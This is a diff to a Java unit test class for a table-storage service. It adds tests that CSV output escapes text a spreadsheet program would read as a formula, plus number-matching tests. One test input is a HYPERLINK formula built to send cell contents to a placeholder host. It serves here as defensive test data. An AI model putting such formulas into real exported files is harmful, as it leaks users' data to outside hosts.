@@ -103,7 +103,8 @@ class TablesTest {
         try (ExecutorService writers = Executors.newFixedThreadPool(4)) {
             List<Callable<TableResult<TableResult.Put>>> puts = IntStream.range(0, 24)
                     .<Callable<TableResult<TableResult.Put>>>mapToObj(i ->
-                            () -> tables.put(ORDERS, row("number", "U-" + i % 12), "number", false))
+                            // each of its own service, as in two processes
+                            () -> new Tables(store).put(ORDERS, row("number", "U-" + i % 12), "number", false))
                     .toList();
             for (var put : writers.invokeAll(puts)) {
                 done(put.get());
@@ -172,6 +173,44 @@ class TablesTest {
                 .hasMessageContaining("expected the filter to be FEEL");
         assertThatThrownBy(() -> tables.read(new FilePath("reports/orders.xlsx"), Choice.ALL, 5))
                 .hasMessageContaining("to end with .csv or .json");
+    }
+
+    @Test
+    void whatSomebodyTypedIsNoFormulaToATableProgramAndComesBackAsItWas() {
+        List<String> texts = List.of("=HYPERLINK(\"http://x/?\"&A1)", "@sum", "+49 30 1", "'=1", "'", "-5", "it's");
+        for (String text : texts) {
+            done(tables.put(ORDERS, row("number", text, "left", -1), "number", false));
+        }
+        assertThat(content(ORDERS).lines())
+                .containsExactly(
+                        "number,left",
+                        "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-1",
+                        "'@sum,-1",
+                        "'+49 30 1,-1",
+                        "''=1,-1",
+                        "',-1",
+                        "-5,-1",
+                        "it's,-1");
+        assertThat(done(tables.put(ORDERS, row("number", "@sum", "left", 2), "number", true))
+                        .rows())
+                .isEqualTo(texts.size());
+        assertThat(done(tables.read(ORDERS, new Choice(List.of("number"), "left = -1"), 9))
+                        .rows())
+                .extracting(row -> String.valueOf(row.get("number")))
+                .containsExactly(texts.get(0), texts.get(2), texts.get(3), "'", "-5", "it's");
+    }
+
+    @ParameterizedTest
+    @CsvSource({"orders.csv", "orders.json"})
+    void smallAndLargeNumbersAreFoundAsNumbersAndAsKeys(String name) {
+        FilePath path = new FilePath(name);
+        done(tables.put(path, row("id", 1.0E7, "rate", 0.0005, "sum", 12_345_678.5), "id", false));
+        assertThat(done(tables.put(path, row("id", 1.0E7, "rate", 1), "id", false))
+                        .added())
+                .isFalse();
+        assertThat(done(tables.read(path, new Choice(List.of(), "rate < 0.001 and sum > 12345678"), 9))
+                        .matched())
+                .isEqualTo(1);
     }
 
     @Test
